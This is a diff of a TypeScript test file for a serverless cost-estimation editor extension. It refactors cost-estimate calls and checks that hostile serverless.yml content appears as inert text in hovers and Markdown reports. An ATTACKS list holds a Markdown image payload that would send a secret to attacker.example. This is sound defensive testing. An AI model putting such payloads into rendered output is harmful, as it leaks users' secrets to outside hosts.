@@ -6,14 +6,15 @@ import { marked } from 'marked';
 import { parseFragment } from 'parse5';
 import { describe, expect, test } from 'vitest';
 import { resolveConfig } from '../../src/core/config.js';
-import { estimateFunction, resolveCostSettings } from '../../src/core/cost/estimate.js';
+import { estimateWorkload } from '../../src/core/cost/estimate.js';
+import { resolveCostSettings } from '../../src/core/cost/settings.js';
 import { priceBook } from '../../src/core/cost/price-book.js';
 import { emptyUsage } from '../../src/core/cost/usage-file.js';
 import { diffSides } from '../../src/core/diff/diff.js';
 import { diffMarkdown } from '../../src/core/diff/format.js';
 import { analyzeText } from '../../src/core/engine.js';
 import { mdCode, mdText, notificationText, plainLabel } from '../../src/core/markdown.js';
-import { editUsageLink, hoverMarkdown, reportMarkdown } from '../../src/extension/cost/content.js';
+import { editUsageLink, hoverMarkdown, reportMarkdown } from '../../src/core/present/cost.js';
 
 const ATTACKS = [
   '![x](https://attacker.example/?k=SECRET)',
@@ -111,7 +112,7 @@ describe('the functions of a hostile serverless.yml', () => {
 
 describe('hovers', () => {
   const [fn, other] = model.functions;
-  const e = estimateFunction(fn!, 'serverless.yml', emptyUsage(), settings);
+  const e = estimateWorkload({ kind: 'lambda-function', fn: fn! }, 'serverless.yml', emptyUsage(), settings);
   const prices = priceBook(e.region);
   const limits = resolveConfig({}).limits;
   const link = editUsageLink(uri, fn!.id);
@@ -130,7 +131,10 @@ describe('hovers', () => {
 
   test('the Edit usage link carries an id with ) ] quotes backticks and a line break intact, and nothing else', () => {
     const target = editUsageLink(uri, BREAKOUT);
-    const markdown = hoverMarkdown('memory', estimateFunction(other!, 'serverless.yml', emptyUsage(), settings), prices, { editUsage: target, limits });
+    const markdown = hoverMarkdown('memory', estimateWorkload({ kind: 'lambda-function', fn: other! }, 'serverless.yml', emptyUsage(), settings), prices, {
+      editUsage: target,
+      limits,
+    });
     expectNothingFromTheFile(markdown, [target]);
     const [command, query] = target.split('?') as [string, string];
     expect(command).toBe('command:crossover.editUsage');
@@ -140,10 +144,12 @@ describe('hovers', () => {
 });
 
 test('the cost report (the Markdown preview): title, path, assumptions and notes are text', () => {
-  const e = estimateFunction(model.functions[0]!, 'serverless.yml', emptyUsage(), settings);
+  const e = estimateWorkload({ kind: 'lambda-function', fn: model.functions[0]! }, 'serverless.yml', emptyUsage(), settings);
   const text = expectNothingFromTheFile(reportMarkdown(e, `hostile/${PAYLOAD}/serverless.yml`));
   for (const attack of ATTACKS.slice(0, 3)) expect(text).toContain(attack);
-  expectNothingFromTheFile(reportMarkdown(estimateFunction(model.functions[1]!, 'serverless.yml', emptyUsage(), settings), 'serverless.yml'));
+  expectNothingFromTheFile(
+    reportMarkdown(estimateWorkload({ kind: 'lambda-function', fn: model.functions[1]! }, 'serverless.yml', emptyUsage(), settings), 'serverless.yml'),
+  );
 });
 
 test('the cost change against HEAD (the Markdown preview): ids, paths and messages are text', () => {
